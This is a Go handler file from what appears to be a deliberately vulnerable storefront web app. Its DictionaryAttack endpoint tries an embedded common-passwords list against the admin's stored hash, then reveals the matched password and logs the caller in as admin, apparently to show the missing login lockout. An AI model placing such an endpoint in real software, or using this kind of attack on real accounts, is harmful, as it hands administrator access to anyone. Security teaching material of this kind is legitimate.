package handler

import (
	_ "embed"
	"net/http"
	"strings"

	"github.com/gin-gonic/gin"

	"github.com/shopworks/storefront/internal/model"
)

//go:embed common_passwords.txt
var commonPasswordsFile string

// commonPasswords returns the embedded common-passwords list.
func commonPasswords() []string {
	lines := strings.Split(strings.TrimSpace(commonPasswordsFile), "\n")
	out := make([]string, 0, len(lines))
	for _, l := range lines {
		if l = strings.TrimSpace(l); l != "" {
			out = append(out, l)
		}
	}
	return out
}

// DictionaryAttack walks the common-passwords list against the admin
// account's stored hash. It exists to demonstrate that the login flow has no
// lockout or rate limiting; on a hit it reveals the password and logs the
// attacker in as the admin.
func (a *App) DictionaryAttack(c *gin.Context) {
	var admin model.Customer
	if err := a.DB.Where("email = ?", a.Cfg.AdminEmail).First(&admin).Error; err != nil {
		a.flash(c, "No admin account to attack", "info")
		c.Redirect(http.StatusFound, "/")
		return
	}

	for _, password := range commonPasswords() {
		if admin.VerifyPassword(password) {
			a.flash(c, "Password is "+password, "success")
			a.loginSession(c, admin)
			c.Redirect(http.StatusFound, "/")
			return
		}
	}

	a.flash(c, "Password not found in the common passwords list", "info")
	c.Redirect(http.StatusFound, "/")
}
